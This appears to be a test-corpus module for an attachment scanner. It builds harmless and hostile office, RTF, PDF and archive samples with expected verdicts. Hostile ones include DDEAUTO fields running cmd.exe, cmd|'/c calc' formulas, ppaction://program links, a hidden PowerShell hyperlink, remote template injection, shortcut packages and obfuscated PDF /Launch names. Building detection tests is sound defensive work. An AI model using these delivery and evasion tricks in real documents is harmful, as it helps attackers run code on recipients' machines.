@@ -1,0 +1,368 @@
+"""What archives and documents hold: what every office sends, and what documents run without being programs.
+
+Harmless cases were held once, and hostile ones passed; each kind comes in variations.
+"""
+
+# ruff: noqa: E501 - a case is easier to read when its lines are not broken.
+
+from __future__ import annotations
+
+import html
+import struct
+from collections.abc import Iterator
+
+from gatescan.model import Verdict
+
+from tests.corpus import documents as doc
+from tests.corpus import packers as pack
+from tests.corpus.case import EXE, HARMLESS, Case, attached
+from tests.corpus.packers import File, ZipMember
+
+POLICY, ENCRYPTED = Verdict.POLICY, Verdict.ENCRYPTED
+TEXT: File = ("minutes.txt", b"Minutes of the meeting, page 1.\n" * 20)
+PROGRAM: File = ("run.exe", EXE)
+SCRIPT = b'MsgBox "hello"\n'
+_VBA_TYPE = "application/vnd.ms-office.vbaProject"
+_Made = tuple[str, bytes]
+
+
+def cases() -> Iterator[Case]:
+    """All of them, each as an attachment and in a zip, in a fixed order."""
+    for area, cls, verdict, sources in (
+        ("harmless", 0, HARMLESS, (_stored, _labels, _companions, _numbered, _pieces, _elsewhere, _objects, _opened)),
+        ("runs", 64, POLICY, (_projects, _flat, _fields, _clicks, _sheets, _rich, _packages)),
+        ("named", 61, POLICY, (_streams, _unpacked)),
+        ("spelled", 65, POLICY, (_spelled,)),
+        ("sealed", 54, ENCRYPTED, (_sealed,)),
+    ):
+        for source in sources:
+            for name, data in source():
+                label = f"contents/{area}/{source.__name__.strip('_')}"
+                yield Case(f"{label}/{name}", cls, attached(name.rpartition("/")[2].encode(), data), verdict)
+                zipped = pack.zip_bytes([(name.rpartition("/")[2], data), TEXT])
+                yield Case(f"{label}-in-zip/{name}", cls, attached(b"papers.zip", zipped), verdict)
+
+
+def _stored(with_extra: bytes = struct.pack("<HH", 0xCAFE, 32) + bytes(32)) -> Iterator[_Made]:
+    """Packed files that are stored as they are in another one, under names of any length."""
+    book = doc.ooxml_bytes(folder="xl")
+    for kind, inner in (("xlsx", book), ("docx", doc.ooxml_bytes()), ("zip", pack.zip_bytes([TEXT]))):
+        name = f"word/embeddings/Microsoft_Excel_Worksheet1.{kind}".encode()
+        for extra in (b"", with_extra):
+            member = ZipMember(name, inner, method=0, extra=extra)
+            short = ZipMember(b"a." + kind.encode(), inner, method=0, extra=extra)
+            yield f"{kind}-{len(extra)}/chart.docx", doc.ooxml_bytes([member])
+            yield f"{kind}-{len(extra)}/papers.zip", pack.zip_bytes([short, member, TEXT])
+            yield f"{kind}-{len(extra)}/text.odt", doc.odf_bytes(extra=[member])
+    layered = pack.zip_bytes([ZipMember(b"lib/a-library-with-a-long-name-1.0.zip", pack.zip_bytes([TEXT]), method=0)])
+    yield "layers/app.zip", pack.zip_bytes([ZipMember(b"modules/the-module-of-the-application.zip", layered, method=0)])
+    yield "attached/report.pdf", doc.pdf_bytes([("report.docx", doc.ooxml_bytes())], plain_streams=True)
+
+
+def _labels() -> Iterator[_Made]:
+    """What only looks like macros: declared types, and projects without a line of code."""
+    default = f'<Default Extension="bin" ContentType="{_VBA_TYPE}"/>'
+    sheet = '<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
+    main = '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.{}.macroEnabled.main+xml"/>'
+    settings = [("xl/printerSettings/printerSettings1.bin", bytes(range(200)))]
+    yield "default/list.xlsx", doc.ooxml_bytes(types=default, folder="xl")
+    yield "default-with-settings/list.xlsx", doc.ooxml_bytes(settings, types=default, folder="xl")
+    yield "no-such-sheet/list.xlsx", doc.ooxml_bytes(types=sheet, folder="xl")
+    for kind, suffix in (("sheet", "xlsb"), ("sheet", "xlsm"), ("template", "xltm"), ("addin", "xlam")):
+        yield f"{kind}/list.{suffix}", doc.ooxml_bytes(types=main.format(kind), folder="xl")
+    for what, options in (("bare", ""), ("option", "Option Explicit\r\n"), ("lines", "\r\n\r\n")):
+        empty = doc.vba_project(options=options)
+        yield f"{what}/list.xlsm", doc.ooxml_bytes([("xl/vbaProject.bin", doc.ole_bytes(empty))], folder="xl")
+        book = {"Workbook": doc.xls_workbook(), **doc.vba_project(options=options, folder="_VBA_PROJECT_CUR/VBA")}
+        yield f"{what}/list.xls", doc.ole_bytes(book)
+        yield f"{what}/sheet.pub", doc.ole_bytes({"Quill/QuillSub/CONTENTS": b"CHNKINK ", **empty})
+    for what, module in (("empty", ""), ("remark", "REM  *****  BASIC  *****\n\n"), ("vba", "Option VBASupport 1\n")):
+        yield f"{what}/list.ods", doc.odf_bytes(macro=True, module=module)
+
+
+def _companions() -> Iterator[_Made]:
+    """What systems lay beside a document, under its name."""
+    apple = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(range(120))
+    owner = b"\x03Ann" + b" " * 50 + "\x03\x00Ann".encode("utf-16-le").ljust(108, b"\x00")
+    files = {
+        "__MACOSX/._Minutes.docx": apple,
+        "__MACOSX/papers/._List.xlsx": apple,
+        "._Talk.pptx": apple,
+        "~$nutes.docx": owner,
+        "~$List.xlsx": owner.ljust(165, b" "),
+        ".~lock.Minutes.docx#": b",ann,pc,22.11.2026;",
+        ".DS_Store": b"\x00\x00\x00\x01Bud1" + bytes(90),
+        "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=a.dll,1\r\n",
+        "Thumbs.db": doc.ole_bytes({"Catalog": bytes(40), "1": b"\xff\xd8\xff\xe0" + bytes(90)}),
+    }
+    for name, data in files.items():
+        if "/" not in name:
+            yield f"alone/{name}", data
+        yield f"{name.strip('._~$').replace('/', '-')}/papers.zip", pack.zip_bytes([(name, data), TEXT])
+
+
+def _numbered() -> Iterator[_Made]:
+    """Numbers that are extensions of instruments, not of volumes."""
+    noise = bytes(i * 71 % 256 for i in range(900))
+    for name in ("sample.001", "figures.123", "probe.002", "log.999"):
+        yield f"one/{name}", noise
+    yield "a-series/spectra.zip", pack.zip_bytes([(f"sample.{i:03}", noise[i:]) for i in range(1, 6)])
+
+
+def _pieces() -> Iterator[_Made]:
+    """What a document format contains is no attachment of its own, whatever its name ends in."""
+    epub = ZipMember(b"mimetype", b"application/epub+zip", method=0)
+    page = [
+        ("OEBPS/style.css", b"p { margin: 0 }\n"),
+        ("OEBPS/page.js", b"var a = 1;\n"),
+        ("META-INF/container.xml", b"<a/>"),
+    ]
+    yield "styles/book.epub", pack.zip_bytes([epub, *page])
+    pieces = [
+        ("word/theme/a.css", b"p {}\n"),
+        ("customXml/item.vb", SCRIPT),
+        ("word/x.js", b"var a;\n"),
+        ("word/c.crt", b"x"),
+    ]
+    yield "styles/letter.docx", doc.ooxml_bytes(pieces)
+    yield "styles/letter.odt", doc.odf_bytes(extra=pieces)
+
+
+def _elsewhere() -> Iterator[_Made]:
+    """References to the office's own places."""
+    for number, target in enumerate(
+        (
+            "https://example.sharepoint.com/sites/office/Shared%20Documents/2025.xlsx",
+            "https://example-my.sharepoint.com/personal/ann/Documents/figures.xlsm?web=1",
+            "https://d.docs.live.net/1a2b/list.xlsb",
+        )
+    ):
+        yield f"workbook-{number}/list.xlsx", doc.ooxml_bytes(relations=[("externalLinkPath", target)], folder="xl")
+    for number, target in enumerate((r"\\FILESERVER\templates\Letter.dotx", "file:///\\\\fs01\\office\\Letter.dotm")):
+        yield f"template-{number}/letter.docx", doc.ooxml_bytes(relations=[("attachedTemplate", target)])
+
+
+def _objects() -> Iterator[_Made]:
+    """Data of other programs that is no package, and keys that are no names."""
+    picture = bytes.fromhex("0a00030000000000c000000000000046")
+    bitmap = (
+        b"BM"
+        + struct.pack("<LLL", 5000, 0, 54)
+        + b"(\x00\x00\x00\xdc\x00\x00\x00M\x00\x00\x00\x01\x00\x18\x00"
+        + bytes(900)
+    )
+    native = struct.pack("<L", len(bitmap)) + bitmap
+    yield "picture/letter.doc", doc.ole_bytes({"\x01Ole10Native": native}, picture)
+    yield (
+        "picture/letter.docx",
+        doc.ooxml_bytes([("word/embeddings/o.bin", doc.ole_bytes({"\x01Ole10Native": native}, picture))]),
+    )
+    portfolio = doc.pdf_bytes([TEXT]).replace(
+        b"/Names [(minutes.txt)", b"/Names [<00ADBE3A46696C65> 10 0 R (minutes.txt)"
+    )
+    yield "portfolio/papers.pdf", portfolio
+
+
+def _opened() -> Iterator[_Made]:
+    """Sealed under what everybody has: Excel's own password, or an empty one."""
+    yield "agile/list.xlsx", doc.locked_office(doc.ooxml_bytes(folder="xl"))
+    yield "rc4/list.xls", doc.ole_bytes({"Workbook": doc.locked_workbook()})
+    yield "owner/paper.pdf", doc.locked_pdf(b"secret", open_owner=True)
+
+
+def _sealed() -> Iterator[_Made]:
+    yield "agile/list.xlsx", doc.locked_office(doc.ooxml_bytes(folder="xl"), "another")
+    yield "rc4/list.xls", doc.ole_bytes({"Workbook": doc.locked_workbook("another")})
+
+
+def _projects() -> Iterator[_Made]:
+    """Projects with code, by their source or in their compiled form alone, and behind Excel's own password."""
+    for what, streams in {
+        "source": doc.vba_project(doc.MACRO),
+        "compiled-only": doc.vba_project(compiled=3),
+        "late": doc.vba_project(doc.MACRO, options="Option Explicit\r\n" + "\r\n" * 3000),
+        "no-directory": {k: v for k, v in doc.vba_project(doc.MACRO).items() if not k.endswith("dir")},
+    }.items():
+        project = doc.ole_bytes(streams)
+        yield f"{what}/list.xlsm", doc.ooxml_bytes([("xl/vbaProject.bin", project)], folder="xl")
+        yield f"{what}/list.xlsb", doc.ooxml_bytes([("xl/other.dat", project)], folder="xl")
+        yield f"{what}/list.xls", doc.ole_bytes({"Workbook": doc.xls_workbook(), **streams})
+    macro = doc.ooxml_bytes([("xl/vbaProject.bin", doc.macro_project())], folder="xl")
+    yield "agile/list.xlsx", doc.locked_office(macro)
+    yield "rc4/list.xls", doc.ole_bytes({"Workbook": doc.locked_workbook(macro_sheet=True)})
+    yield "basic/list.ods", doc.odf_bytes(macro=True, module="REM  x\nSub Main\nShell x\nEnd Sub\n")
+
+
+def _flat() -> Iterator[_Made]:
+    """Documents as one XML file: packages, macros, templates and fields in them."""
+    package = doc.ole_bytes({"\x01Ole10Native": doc.ole_package(*PROGRAM)})
+    remote = '<Relationship Type="x/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"/>'
+    parts = {
+        "package": doc.flat_part("/word/embeddings/o.bin", package),
+        "macro": doc.flat_part("/word/vbaProject.bin", doc.macro_project()),
+        "template": doc.flat_part("/word/_rels/settings.xml.rels", remote),
+        "field": doc.flat_part("/word/document.xml", doc.word_field("DDEAUTO c:\\\\cmd.exe /k x")),
+    }
+    for what, part in parts.items():
+        flat = doc.flat_opc(part)
+        yield f"{what}/letter.xml", flat
+        yield f"{what}/letter.doc", flat.replace(b"?>", b"?><!--" + b"x" * 5000 + b"-->", 1)
+        yield f"{what}-wide/letter.xml", flat.decode().encode("utf-16")
+    for what, body in {
+        "package": f'<w:binData w:name="oledata.mso">{doc.base64_text(package)}</w:binData>',
+        "template": '<w:docPr><w:attachedTemplate w:val="https://x.example/t.dot"/></w:docPr>',
+        "field": doc.word_field("DDE cmd x"),
+    }.items():
+        yield f"2003-{what}/letter.xml", doc.word_2003(body)
+    link = "<ExcelWorkbook><SupBook><Path>cmd|/c calc.exe</Path></SupBook></ExcelWorkbook>"
+    cell = "<Worksheet><Table><Row><Cell ss:Formula=\"=cmd|'/c calc'!A1\"/></Row></Table></Worksheet>"
+    for what, body in (("book", link), ("cell", cell)):
+        yield f"2003-{what}/list.xml", doc.excel_2003(body)
+
+
+def _fields() -> Iterator[_Made]:
+    """DDE in Word's fields, in one run or many, and in workbooks."""
+    numbers = " ".join(str(ord(letter)) for letter in "DDEAUTO")
+    quote = f"{doc.FIELD_BEGIN}{doc.instruction(f'QUOTE {numbers}')}{doc.FIELD_END}"
+    for what, body in {
+        "auto": doc.word_field("DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"),
+        "plain": doc.word_field(" dde cmd calc"),
+        "split": doc.word_field(*"DDEAUTO", " cmd"),
+        "simple": '<w:fldSimple w:instr=" DDEAUTO cmd x "><w:r/></w:fldSimple>',
+        "entity": doc.word_field("&#68;DE cmd"),
+        "quote": f"{doc.FIELD_BEGIN}{quote}{doc.instruction(' cmd x')}{doc.FIELD_END}",
+    }.items():
+        yield f"{what}/letter.docx", doc.ooxml_bytes([("word/header1.xml", f"<w:hdr>{body}</w:hdr>".encode())])
+    for what, text in (("auto", b"\x13 DDEAUTO cmd x\x14\x15"), ("wide", "\x13DDE cmd x\x15".encode("utf-16-le"))):
+        yield f"{what}/letter.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + text})
+    for what, instruction in {
+        "auto": rb"DDEAUTO c:\\cmd x",
+        "hex": rb"\'44\'44\'45 cmd",
+        "code": rb"\u68?\u68?\u69? cmd",
+        "groups": rb"{D}{\b D}E cmd",
+        "quote": rb"{\field{\*\fldinst QUOTE %s}{\fldrslt x}} cmd" % numbers.encode(),
+    }.items():
+        yield (
+            f"{what}/letter.rtf",
+            doc.rtf_bytes(before="{\\field{\\*\\fldinst " + instruction.decode() + "}{\\fldrslt x}}"),
+        )
+    yield "link/list.xls", doc.ole_bytes({"Workbook": doc.xls_workbook(dde=True)})
+    yield (
+        "link/list.xlsb",
+        doc.ooxml_bytes([("xl/externalLinks/externalLink1.bin", b"\xe8\x02\x0a\x01\x00" + bytes(8))], folder="xl"),
+    )
+    prefixed = b'<x:externalLink xmlns:x="y"><x:ddeLink ddeService="cmd" ddeTopic="x"/></x:externalLink>'
+    yield "prefix/list.xlsx", doc.ooxml_bytes([("xl/externalLinks/externalLink1.xml", prefixed)], folder="xl")
+
+
+def _clicks() -> Iterator[_Made]:
+    """Links of a presentation that start a program."""
+    for event in ("hlinkClick", "hlinkHover", "hlinkMouseOver"):
+        for action in (
+            "ppaction://program",
+            "PPACTION://Program",
+            html.escape("ppaction://program").replace("p", "&#112;", 1),
+        ):
+            if event != "hlinkClick" and action.startswith("&"):
+                continue
+            slide = f'<p:sld><a:{event} r:id="rId2" action="{action}"/></p:sld>'.encode()
+            yield f"{event}-{action[:2].strip('&')}/talk.ppsx", doc.ooxml_bytes([("ppt/slides/slide1.xml", slide)])
+    for number, target in enumerate(
+        ("file:///C:/Windows/System32/cmd.exe", "powershell.exe%20-w%20hidden", r"\\192.0.2.1\a\b.hta")
+    ):
+        yield f"target-{number}/talk.pptx", doc.ooxml_bytes(relations=[("hyperlink", target)])
+    atom = struct.pack("<HHL", 0, 0xFF3, 16) + bytes(8) + b"\x02" + bytes(7)
+    yield "old/talk.ppt", doc.ole_bytes({"PowerPoint Document": bytes(64) + atom})
+
+
+def _sheets() -> Iterator[_Made]:
+    """SYLK and bare sheets with macros of Excel 4."""
+    for what, lines in {
+        "auto": "NN;NAuto_open;ER1C1\nC;X1;Y1;ETRUE",
+        "sheet": "O;L;E;D;V0\nC;X1;Y1;K1",
+        "call": 'C;X1;Y1;K0;EEXEC("calc")',
+        "link": "C;X1;Y1;K0;Ecmd|'/c calc'!A0",
+        "returns": "P;PGeneral\rO;E\rC;X1;Y1;K1",
+    }.items():
+        yield f"{what}/list.slk", f"ID;PWXL;N;E\r\n{lines}\r\nE\r\n".encode()
+        yield f"{what}/list.csv", f"ID;P\n{lines}\nE\n".encode()
+    for version, size in ((0x009, 4), (0x209, 6), (0x409, 6)):
+        yield (
+            f"bare-{version:x}/list.xls",
+            struct.pack("<HHHH", version, size, 2, 0x40) + bytes(size - 4) + b"\x0a\x00\x00\x00",
+        )
+
+
+def _rich() -> Iterator[_Made]:
+    """RTF: templates whose address is spelled otherwise, and linked objects by their class."""
+    for what, address in {
+        "code": "".join(f"\\u{ord(letter)}?" for letter in "http://x.example/t"),
+        "hex": "".join(f"\\'{ord(c):02x}" for c in "http:"),
+        "no-width": "\\uc0 \\u104ttp:",
+        "negative": f"\\u{ord('h') - 65536}?ttp:",
+        "groups": "ht{\\b tp}:",
+        "hidden": "ht{\\*\\x y}tp:",
+        "share": "\\'5c\\'5c192.0.2.1\\'5cs",
+    }.items():
+        yield f"{what}/letter.rtf", doc.rtf_bytes(before="{\\*\\template " + address + "//x.example/t.dotm}")
+    link = doc.ole_bytes({"\x01Ole": b"x"}, bytes.fromhex("0003000000000000c000000000000046"))
+    yield "link/letter.rtf", doc.rtf_bytes([doc.ole1_object("Anything", link)])
+    moniker = struct.pack("<LL", 0x2000001, 1) + bytes(12) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
+    yield (
+        "moniker/letter.doc",
+        doc.ole_bytes({"ObjectPool/_1/\x01Ole": moniker + "http://x.example/".encode("utf-16-le")}),
+    )
+
+
+def _packages() -> Iterator[_Made]:
+    """Shortcuts in packages."""
+    for target in ("C:\\Windows\\System32\\calc.exe", "C:\\Temp\\run.vbs"):
+        shortcut = doc.ole_shortcut(target)
+        name = target.rpartition("\\")[2]
+        yield f"{name}/letter.doc", doc.ole_bytes({"ObjectPool/_1/\x01Ole10Native": shortcut})
+        yield (
+            f"{name}/letter.docx",
+            doc.ooxml_bytes([("word/embeddings/o.bin", doc.ole_bytes({"\x01Ole10Native": shortcut}))]),
+        )
+        yield f"{name}/letter.rtf", doc.rtf_bytes([doc.ole1_object("Package", shortcut[4:])])
+
+
+def _streams() -> Iterator[_Made]:
+    """Compressed streams: the name is that without the last suffix, whichever it is; each member of gzip has its own."""
+    for suffix, packed in {
+        "gzip": pack.gzip_bytes(SCRIPT),
+        "xz": pack.bzip2_bytes(SCRIPT),
+        "bzip2": pack.bzip2_bytes(SCRIPT),
+        "zstd": pack.zstd_bytes(SCRIPT),
+        "gz": pack.xz_bytes(SCRIPT),
+        "bz": pack.bzip2_bytes(SCRIPT),
+        "dat": pack.gzip_bytes(SCRIPT),
+    }.items():
+        yield f"{suffix}/invoice.vbs.{suffix}", packed
+    text = pack.gzip_bytes(TEXT[1], TEXT[0])
+    yield "two/papers.gz", text + pack.gzip_bytes(EXE, "notes.txt")
+    yield "three/papers.gz", text + pack.gzip_bytes(b"x", "b.txt") + pack.gzip_bytes(b"MZ\x90\x00" + EXE, "c.dat")
+
+
+def _unpacked() -> Iterator[_Made]:
+    """Archives that people unpack stay judged by names, though they look like a document inside."""
+    pieces = [("word/x.vbs", SCRIPT)]
+    for name in ("papers.zip", "papers.jar", "papers"):
+        yield f"office/{name}", doc.ooxml_bytes(pieces)
+        yield f"open/{name}", doc.odf_bytes(extra=pieces)
+    yield "inside/letter.docx", doc.ooxml_bytes([("word/embeddings/a.zip", pack.zip_bytes([("run.vbs", SCRIPT)]))])
+
+
+def _spelled() -> Iterator[_Made]:
+    """Names in PDF with an escape in them."""
+    whole = doc.pdf_bytes([PROGRAM])
+    for old, new in (
+        (b"/EF", b"/E#46"),
+        (b"/EF", b"/#45#46"),
+        (b"/Filespec", b"/File#73pec"),
+        (b"/FlateDecode", b"/Fl#61teDecode"),
+        (b"/F 1", b"/#46 1"),
+        (b"/Filter", b"/Fil#74er"),
+    ):
+        yield f"{new.decode()[1:].replace('#', '')}/paper.pdf", whole.replace(old, new)
+    yield "launch/paper.pdf", doc.pdf_bytes(launch=True).replace(b"/Launch", b"/L#61unch")
